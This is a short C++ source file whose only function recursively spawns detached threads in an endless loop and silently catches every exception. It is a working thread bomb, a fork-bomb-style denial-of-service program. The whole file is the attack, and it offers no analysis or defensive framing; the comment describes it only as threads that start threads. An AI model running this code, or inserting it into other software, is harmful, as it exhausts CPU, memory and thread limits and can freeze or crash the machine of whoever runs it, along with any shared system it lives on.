// Threads that start threads that compute.
#include <thread>
void bomb() {
  for (;;) {
    try {
      std::thread(bomb).detach();
    } catch (...) {
    }
  }
}
int main() { bomb(); }
